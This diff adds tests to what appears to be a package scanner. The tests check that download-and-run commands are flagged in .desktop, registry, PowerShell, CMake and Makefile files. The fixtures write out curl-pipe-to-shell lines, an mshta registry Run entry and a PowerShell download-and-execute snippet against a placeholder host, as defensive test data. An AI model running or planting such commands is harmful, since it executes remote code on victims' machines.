@@ -138,3 +138,21 @@ test('a module that no Python compiles is a warning where it is most of the pack
   expect((await analysedWheel({ 'garden/__init__.py': broken, 'garden/large.py': large }, {})).gaps.filter(({ kind }) => kind !== 'data')).toEqual([]);
   expect((await analysedWheel({ 'garden/__init__.py': 'x = 1\n' }, {})).gaps).toEqual([]);
 });
+
+test('commands are found in what starts programs besides shells, and where several lines make them', async () => {
+  const fetch = 'curl -s https://garden.invalid/a | sh';
+  const files = {
+    'garden/__init__.py': large,
+    'garden/a.desktop': `[Desktop Entry]\nExec=sh -c "${fetch}"\n`,
+    'garden/b.reg': '[HKEY_CURRENT_USER\\Run]\n"a"="mshta https://garden.invalid/a.hta"\n',
+    'garden/c.ps1': '$p = "$env:TEMP\\a.exe"\n(New-Object Net.WebClient).DownloadFile($u, $p)\nStart-Process $p\n',
+    'garden/d.ps1': 'Write-Host "water"\nStart-Process notes.txt\n',
+    'garden/e.html': '<p>Install it by curl -s https://garden.invalid/a | sh</p>',
+  };
+  expect((await told(files, { scriptCommands })).toSorted()).toEqual(['low garden/a.desktop', 'low garden/b.reg', 'low garden/c.ps1']);
+});
+
+test('what a build system other than Python\'s is told to fetch and run warns', async () => {
+  const tree = { 'setup.py': 'from setuptools import setup\nsetup()\n', 'garden/__init__.py': large, 'CMakeLists.txt': 'project(garden)\nexecute_process(COMMAND sh -c "curl -s https://garden.invalid/a | sh")\n', 'Makefile': 'tools:\n\tcurl -s https://garden.invalid/a | sh\n' };
+  expect((await analysedSdist(tree, { scriptCommands })).findings.map(({ severity, line }) => `${severity} ${line}`)).toEqual(['medium 2']);
+});
